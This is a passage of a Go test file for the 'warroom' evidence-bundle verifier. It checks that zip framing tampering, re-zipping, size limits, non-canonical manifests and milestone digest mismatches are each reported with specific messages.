		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			return f
		}
	}
	t.Fatalf("no entry %s", name)
	return nil
}

func TestVerifyBundle_Framing(t *testing.T) {
	signed, _ := writeBundle(t, testKey(1))
	edit := func(fn func(b []byte) []byte) []byte { return fn(slices.Clone(signed)) }
	eocd := len(signed) - 22
	cdOffset := int(binary.LittleEndian.Uint32(signed[eocd+16:]))
	// The first entry, answers.json, starts at byte 0 with its name at 30.
	first := zipEntry(t, signed, "answers.json")
	descriptor, err := first.DataOffset()
	if err != nil {
		t.Fatal(err)
	}
	descriptor += int64(first.CompressedSize64)

	tests := []struct {
		name     string
		bundle   []byte
		problems string
	}{
		{"as written", signed, ""},
		{"bytes prepended", append([]byte("#!/bin/sh\nexit 0\n"), signed...),
			"framing (archive): 17 bytes come before the first entry, which warroom does not write"},
		{"local header names another file", edit(func(b []byte) []byte {
			copy(b[30:], "answerz.json")
			return b
		}), `framing answers.json: the local header names the entry "answerz.json", the central directory "answers.json"`},
		{"local header gives another method", edit(func(b []byte) []byte {
			binary.LittleEndian.PutUint16(b[8:], zip.Store)
			return b
		}), "framing answers.json: the local header gives compression method 0, the central directory 8"},
		{"local header gives other flags", edit(func(b []byte) []byte {
			b[7] |= 0x08 // bit 11: UTF-8 names
			return b
		}), "framing answers.json: the local header gives flags 0x0808, the central directory 0x0008"},
		{"local header gives another time", edit(func(b []byte) []byte {
			b[10] ^= 0x01
			return b
		}), "framing answers.json: the local header gives another modification time than the central directory"},
		{"local header gives sizes", edit(func(b []byte) []byte {
			b[22] = 0x01
			return b
		}), "framing answers.json: the local header gives a checksum or sizes although a data descriptor follows the data"},
		{"data descriptor gives another size", edit(func(b []byte) []byte {
			b[descriptor+8] ^= 0x01
			return b
		}), "framing answers.json: the data descriptor gives other sizes than the central directory"},
		{"data descriptor gives another checksum", edit(func(b []byte) []byte {
			b[descriptor+4] ^= 0x01
			return b
		}), "framing answers.json: no data descriptor with the central directory's checksum follows the data"},
		{"archive comment", func() []byte {
			b := slices.Clone(signed)
			comment := "approved by the auditor"
			binary.LittleEndian.PutUint16(b[len(b)-2:], uint16(len(comment)))
			return append(b, comment...)
		}(), "framing (archive): the archive has a comment (23 bytes), which warroom does not write"},
		{"bytes appended", append(slices.Clone(signed), "trailer"...),
			"framing (archive): the file does not end with the zip's end-of-central-directory record: bytes follow it, which warroom does not write"},
		{"bytes before the central directory", func() []byte {
			b := slices.Concat(signed[:cdOffset], []byte("hidden"), signed[cdOffset:])
			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset+6))
			return b
		}(), "framing (archive): 6 bytes lie between the last entry and the central directory, which warroom does not write"},
		{"central directory moved", edit(func(b []byte) []byte {
			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset+1))
			return b
		}), ""}, // not a zip any more: an error, below
		{"bytes at the end of the central directory", func() []byte {
			b := slices.Concat(signed[:eocd], []byte("hidden"), signed[eocd:])
			size := binary.LittleEndian.Uint32(b[len(b)-10:])
			binary.LittleEndian.PutUint32(b[len(b)-10:], size+6)
			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset))
			return b
		}(), "framing (archive): the central directory holds 6 bytes besides its entry records"},

		// The central directory record of answers.json, field by field.
		{"made by Unix", edit(func(b []byte) []byte {
			b[cdOffset+5] = 3
			return b
		}), "framing answers.json: the central directory gives version made by 0x0314 (host system 3), which can carry a Unix file mode; warroom writes 0x0014 (MS-DOS, zip 2.0)"},
		{"another version needed in the central directory", edit(func(b []byte) []byte {
			b[cdOffset+6] = 45
			return b
		}), "framing answers.json: the central directory gives version needed to extract 45; warroom writes 20"},
		{"another version needed in the local header", edit(func(b []byte) []byte {
			b[4] = 45
			return b
		}), "framing answers.json: the local header gives version needed to extract 45; warroom writes 20"},
		{"another disk", edit(func(b []byte) []byte {
			b[cdOffset+34] = 1
			return b
		}), "framing answers.json: the central directory puts the entry on disk 1; warroom writes 0"},
		{"internal attributes", edit(func(b []byte) []byte {
			b[cdOffset+36] = 1 // "text file"
			return b
		}), "framing answers.json: the central directory gives internal file attributes 0x0001; warroom writes 0"},
		{"external attributes", edit(func(b []byte) []byte {
			b[cdOffset+38] = 0x01 // MS-DOS read-only
			return b
		}), "framing answers.json: the central directory gives external file attributes 0x00000001 (such as a file mode); warroom writes 0"},
		{"the UTF-8 flag on an ASCII name", edit(func(b []byte) []byte {
			b[7] |= 0x08
			b[cdOffset+9] |= 0x08
			return b
		}), "framing answers.json: the central directory gives flags 0x0808; warroom writes 0x0008 for this name"},
		{"another extended timestamp in both headers", edit(func(b []byte) []byte {
			b[30+12+5] += 2 // the low byte of the local header's modification time: 2 s later
			b[cdOffset+46+12+5] += 2
			return b
		}), "framing answers.json: the MS-DOS modification time is not the extended timestamp's (2026-11-03T09:00:02Z), as warroom writes it\n" +
			"framing answers.json: the entry is not dated with the manifest's created_at (2026-11-03T09:00:00Z), as warroom dates every entry: its extended timestamp gives 2026-11-03T09:00:02Z"},
		{"redated in both headers", reheader(t, signed, "report.md", func(fh *zip.FileHeader) { fh.Modified = bundleAt.Add(time.Hour) }),
			"framing report.md: the entry is not dated with the manifest's created_at (2026-11-03T09:00:00Z), as warroom dates every entry: " +
				"its extended timestamp gives 2026-11-03T10:00:00Z and its MS-DOS time gives 2026-11-03 10:00:00"},
		{"the MS-DOS time alone redated in both headers", edit(func(b []byte) []byte {
			b[10] += 1 // 2 s later
			b[cdOffset+12] += 1
			return b
		}), "framing answers.json: the MS-DOS modification time is not the extended timestamp's (2026-11-03T09:00:00Z), as warroom writes it\n" +
			"framing answers.json: the entry is not dated with the manifest's created_at (2026-11-03T09:00:00Z), as warroom dates every entry: " +
			"its MS-DOS time gives 2026-11-03 09:00:02"},
		{"another extended timestamp in the local header", edit(func(b []byte) []byte {
			b[30+12+5] += 2
			return b
		}), "framing answers.json: the local header's extended timestamp differs from the central directory's"},
		{"no data descriptor signature", func() []byte {
			// manifest.sig is the last entry: its 16-byte descriptor ends
			// where the central directory starts.
			b := slices.Concat(signed[:cdOffset-16], signed[cdOffset-12:])
			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset-4))
			return b
		}(), "framing manifest.sig: the data descriptor has no signature, which warroom always writes"},
		{"a custom extra block", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
			fh.Extra = binary.LittleEndian.AppendUint16(binary.LittleEndian.AppendUint16(nil, 0xCAFE), 6000)
			fh.Extra = append(fh.Extra, bytes.Repeat([]byte("hidden "), 6000/7+1)[:6000]...)
		}), "framing report.md: the central directory's extra field (6013 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
			"framing report.md: the local header's extra field (6013 bytes) is not the one 9-byte extended timestamp warroom writes"},
		{"a zip64 block that is not needed", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
			fh.Extra = binary.LittleEndian.AppendUint16(binary.LittleEndian.AppendUint16(nil, 0x0001), 24)
			fh.Extra = append(fh.Extra, make([]byte, 24)...)
		}), "framing report.md: the central directory's extra field (37 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
			"framing report.md: the local header's extra field (37 bytes) is not the one 9-byte extended timestamp warroom writes"},
		{"bytes after a listed file's deflate stream", afterDeflate(t, signed, "report.md", "hidden"),
			"framing report.md: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
		{"bytes after the manifest's deflate stream", afterDeflate(t, signed, ManifestName, "hidden"),
			"framing manifest.json: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
		{"bytes after the signature's deflate stream", afterDeflate(t, signed, SignatureName, "hidden"),
			"framing manifest.sig: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
		{"stored, not deflated", reheader(t, signed, "report.md", func(fh *zip.FileHeader) { fh.Method = zip.Store }),
			"framing report.md: the entry has compression method 0; warroom deflates every entry (method 8)"},
		{"no extended timestamp", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
			fh.Modified = time.Time{}
			fh.ModifiedDate, fh.ModifiedTime = msDosTime(bundleAt) // the MS-DOS time only
		}), "framing report.md: the central directory's extra field (0 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
			"framing report.md: the local header's extra field (0 bytes) is not the one 9-byte extended timestamp warroom writes"},
	}
	for _, tt := range tests {
		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), pubOf(testKey(1)))
		if tt.name == "central directory moved" {
			if err == nil {
				t.Errorf("%s: verified:\n%s", tt.name, problems(v))
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
		}
		if v.KeyID != KeyID(pubOf(testKey(1))) || v.Manifest.CreatedBy != "dana" {
			t.Errorf("%s: key %s, manifest %+v", tt.name, v.KeyID, v.Manifest)
		}
	}
}

// rezipWith unpacks a bundle and zips it again as another tool could: every
// entry with method, at the given deflate level, dated at.
func rezipWith(t *testing.T, b []byte, method uint16, level int, at time.Time) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	zw.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) { return flate.NewWriter(w, level) })
	for _, f := range zr.File {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: method, Modified: at})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(readAll(t, f)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestVerifyBundle_Rezipped: a bundle unpacked and zipped again by another
// tool holds the same files, but its entries are dated otherwise or not
// deflated, which verify reports for every entry.
func TestVerifyBundle_Rezipped(t *testing.T) {
	signed, _ := writeBundle(t, testKey(1))
	later := time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)
	const dated = "the entry is not dated with the manifest's created_at (2026-11-03T09:00:00Z), as warroom dates every entry: " +
		"its extended timestamp gives 2030-01-01T00:00:00Z and its MS-DOS time gives 2030-01-01 00:00:00"
	const stored = "the entry has compression method 0; warroom deflates every entry (method 8)"
	names := []string{"answers.json", "empty.txt", ManifestName, SignatureName, "report.html", "report.md", "scenarios/ttx-1/aar.md"}
	var deflated, storedWant []string
	for _, n := range names {
		deflated = append(deflated, "framing "+n+": "+dated)
		storedWant = append(storedWant, "framing "+n+": "+stored, "framing "+n+": "+dated)
	}
	slices.Sort(deflated)
	slices.Sort(storedWant)
	for _, tt := range []struct {
		name   string
		bundle []byte
		want   []string
	}{
		{"deflated at level 1, dated 2030", rezipWith(t, signed, zip.Deflate, flate.BestSpeed, later), deflated},
		{"deflated at level 9, dated 2030", rezipWith(t, signed, zip.Deflate, flate.BestCompression, later), deflated},
		{"stored, dated 2030", rezipWith(t, signed, zip.Store, 0, later), storedWant},
	} {
		v := verify(t, tt.bundle, pubOf(testKey(1)))
		if got := problems(v); got != strings.Join(tt.want, "\n") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, strings.Join(tt.want, "\n"))
		}
	}

	// The limit: deflated at another level and dated as warroom dates, the
	// bundle verifies, though its compressed bytes differ.
	other := rezipWith(t, signed, zip.Deflate, flate.BestSpeed, bundleAt)
	if bytes.Equal(other, signed) {
		t.Fatal("deflating at level 1 gave the same bytes; pick content that tells the levels apart")
	}
	if v := verify(t, other, pubOf(testKey(1))); !v.OK() {
		t.Errorf("re-deflated at level 1, dated as written: problems\n%s", problems(v))
	}
}

func TestVerifyBundle_Zip64(t *testing.T) {
	if testing.Short() {
		t.Skip("writes and verifies 65,600 entries")
	}
	// Past 65,534 files the zip needs zip64 end records.
	files := make([]BundleFile, 65_600)
	for i := range files {
		files[i] = BundleFile{Path: fmt.Sprintf("f/%05d", i)}
	}
	var b bytes.Buffer
	if _, err := WriteBundle(&b, bundleManifest(), files, testKey(1)); err != nil {
		t.Fatal(err)
	}
	if tail := b.Bytes()[b.Len()-22-20-56:]; binary.LittleEndian.Uint32(tail) != 0x06064b50 {
		t.Fatal("the bundle has no zip64 end record")
	}
	if v := verify(t, b.Bytes(), pubOf(testKey(1))); !v.OK() || len(v.Manifest.Files) != len(files) {
		t.Errorf("problems\n%s", problems(v))
	}
	for name, bad := range map[string][]byte{
		"bytes prepended": append([]byte("junk"), b.Bytes()...),
		"bytes appended":  append(slices.Clone(b.Bytes()), "junk"...),
	} {
		if v, err := VerifyBundle(bytes.NewReader(bad), int64(len(bad)), nil); err == nil && v.OK() {
			t.Errorf("%s: verified", name)
		}
	}
}

func TestVerifyBundle_Limits(t *testing.T) {
	signed, _ := writeBundle(t, testKey(1))
	sigOf := func(size int) []byte {
		return rezip(t, signed, func(name string, d []byte) ([]byte, bool) {
			if name == SignatureName {
				return append(bytes.Repeat([]byte(" "), size-len(d)), d...), true
			}
			return d, true
		})
	}
	if v := verify(t, sigOf(64<<10), pubOf(testKey(1))); !v.OK() {
		t.Errorf("a 64 KiB manifest.sig: problems\n%s", problems(v))
	}
	if got := problems(verify(t, sigOf(64<<10+1), pubOf(testKey(1)))); got != "signature manifest.sig: cannot be read: larger than 64 KiB" {
		t.Errorf("a manifest.sig of 64 KiB and 1 byte: problems\n%s", got)
	}

	huge := strings.Repeat("x", 16<<20)
	big := rezip(t, signed, editManifest(t, func(m *Manifest) { m.CreatedBy = huge }))
	if v, err := VerifyBundle(bytes.NewReader(big), int64(len(big)), nil); err == nil ||
		err.Error() != "manifest.json cannot be read, so nothing can be verified: larger than 16 MiB" {
		t.Errorf("a manifest.json over 16 MiB: error %v, %v", err, v)
	}
	m := bundleManifest()
	m.CreatedBy = huge
	if _, err := WriteBundle(io.Discard, m, bundleFiles(), nil); err == nil || !strings.Contains(err.Error(), "verify reads at most 16 MiB") {
		t.Errorf("WriteBundle of a manifest over 16 MiB: error %v", err)
	}

	if _, err := WriteBundle(io.Discard, bundleManifest(), make([]BundleFile, 99_999), nil); err == nil ||
		err.Error() != "a bundle holds at most 99998 files, not 99999" {
		t.Errorf("WriteBundle of 99,999 files: error %v", err)
	}
	var many bytes.Buffer
	zw := zip.NewWriter(&many)
	for i := range 100_001 {
		if _, err := zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("%06d", i), Method: zip.Store}); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if v, err := VerifyBundle(bytes.NewReader(many.Bytes()), int64(many.Len()), nil); err == nil ||
		err.Error() != "the zip has 100001 entries; verify reads at most 100000, and warroom never writes more" {
		t.Errorf("a zip of 100,001 entries: error %v, %v", err, v)
	}
}

func TestVerifyBundle_NotCanonical(t *testing.T) {
	unsigned, _ := writeBundle(t, nil)
	withManifest := func(fn func(d []byte) []byte) []byte {
		return rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
			if name == ManifestName {
				return fn(d), true
			}
			return d, true
		})
	}
	replace := func(old, new string) []byte {
		return withManifest(func(d []byte) []byte {
			if !bytes.Contains(d, []byte(old)) {
				t.Fatalf("manifest.json lacks %q", old)
			}
			return bytes.Replace(d, []byte(old), []byte(new), 1)
		})
	}
	tests := []struct {
		name   string
		bundle []byte
		line   int
	}{
		{"a key in another case added", replace(`  "created_by": "dana",`, "  \"created_by\": \"dana\",\n  \"Created_By\": \"mallory\","), 10},
		{"a key in another case", replace(`"created_by": "dana"`, `"CREATED_BY": "dana"`), 10},
		{"a key repeated", replace(`  "created_by": "dana",`, "  \"created_by\": \"mallory\",\n  \"created_by\": \"dana\","), 10},
		{"an unknown key", replace(`  "tool": "warroom test",`, "  \"tool\": \"warroom test\",\n  \"approved\": true,"), 5},
		{"keys in another order", replace("  \"format\": \"warroom-evidence-bundle\",\n  \"version\": 1,",
			"  \"version\": 1,\n  \"format\": \"warroom-evidence-bundle\","), 2},
		{"another escape", replace(`"dana"`, `"\u0064ana"`), 10},
		{"compact", withManifest(func(d []byte) []byte {
			var b bytes.Buffer
			if err := json.Compact(&b, d); err != nil {
				t.Fatal(err)
			}
			return b.Bytes()
		}), 1},
		{"no final newline", withManifest(func(d []byte) []byte { return bytes.TrimSuffix(d, []byte("\n")) }), 0},
	}
	for _, tt := range tests {
		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), nil)
		want := "manifest.json is not in the form warroom writes ("
		if tt.line > 0 {
			want += fmt.Sprintf("line %d differs", tt.line)
		}
		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.Contains(err.Error(), "changed by hand") || v != nil {
			t.Errorf("%s: error %v, want %q…", tt.name, err, want)
		}
	}
}

func TestVerifyBundle_MilestoneDigest(t *testing.T) {
	assessment := []byte(`{"workload":"payments","questions":[]}`)
	files := append(bundleFiles(), BundleFile{Path: AssessmentName, Data: assessment})
	bundle := func(digest string) []byte {
		m := bundleManifest()
		m.Milestone.Digest = digest
		var b bytes.Buffer
		if _, err := WriteBundle(&b, m, files, testKey(1)); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	sum := sha256.Sum256(assessment)
	digest := "sha256:" + hex.EncodeToString(sum[:])
	good := bundle(digest)
	other := sha256.Sum256([]byte("another assessment"))
	tests := []struct {
		name     string
		bundle   []byte
		problems string
	}{
		{"matches", good, ""},
		{"another digest", bundle("sha256:" + hex.EncodeToString(other[:])),
			"altered milestone/assessment.json: does not match the milestone digest in the manifest (digest sha256:" +
				hex.EncodeToString(other[:])[:12] + "…, file sha256:" + hex.EncodeToString(sum[:])[:12] + "…)"},
		{"file replaced", rezip(t, good, func(name string, d []byte) ([]byte, bool) {
			if name == AssessmentName {
				return []byte(`{"workload":"payments","questions":[1]}`), true
			}
			return d, true
		}), "altered milestone/assessment.json: size differs (manifest 38 bytes, file more)"},
		// Without the file, the digest would pin nothing anyone can check.
		{"file not in the bundle", func() []byte {
			m := bundleManifest()
			m.Milestone.Digest = digest
			var b bytes.Buffer
			if _, err := WriteBundle(&b, m, bundleFiles(), testKey(1)); err != nil {
				t.Fatal(err)
			}
			return b.Bytes()
		}(), "missing milestone/assessment.json: manifest.json gives the milestone digest sha256:" + hex.EncodeToString(sum[:])[:12] +
			"… but does not list this file, the assessment the digest is of"},
		{"file removed, manifest edited to match", rezip(t, good, func(name string, d []byte) ([]byte, bool) {
			if name == AssessmentName {
				return nil, false
			}
			return editManifest(t, func(m *Manifest) {
				m.Files = slices.DeleteFunc(m.Files, func(f ManifestFile) bool { return f.Path == AssessmentName })
			})(name, d)
		}), "signature manifest.sig: the signature does not match manifest.json: the manifest changed after it was signed\n" +
			"missing milestone/assessment.json: manifest.json gives the milestone digest sha256:" + hex.EncodeToString(sum[:])[:12] +
			"… but does not list this file, the assessment the digest is of"},
	}
	for _, tt := range tests {
		v := verify(t, tt.bundle, pubOf(testKey(1)))
		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
		}
	}
}

// TestDecodeManifest_FirstVersion: a manifest as the first warroom that
// wrote bundles encoded it, before milestones recorded their run count and
// lenses, still verifies: fields added since are omitted when zero, so it
// encodes again byte for byte.
func TestDecodeManifest_FirstVersion(t *testing.T) {
	const first = `{
  "format": "warroom-evidence-bundle",
  "version": 1,
  "tool": "warroom v0.9.0",
  "workload": {
    "name": "payments",
    "created_at": "2026-08-05T09:00:00Z"
  },
  "created_at": "2026-11-03T09:00:00Z",
  "created_by": "dana",
  "milestone": {
    "number": 2,
    "name": "2026-Q4",
    "created_at": "2026-11-03T08:00:00Z",
    "created_by": "lee",
    "tool_version": "v0.9.0",
    "frozen": {
      "answers_through": 12,
      "answers": 12
    },
    "digest": ""
  },
  "files": [
    {
      "path": "report.md",
      "sha256": "0000000000000000000000000000000000000000000000000000000000000000",
      "size": 0
    }
  ]
}
`
	var m Manifest
	if err := decodeManifest([]byte(first), &m); err != nil {
		t.Fatalf("decodeManifest: %v", err)
	}
	if m.Milestone.Frozen.Answers != 12 || m.Milestone.Frozen.Runs != 0 || len(m.Files) != 1 {
		t.Errorf("decoded %+v", m)
	}
}
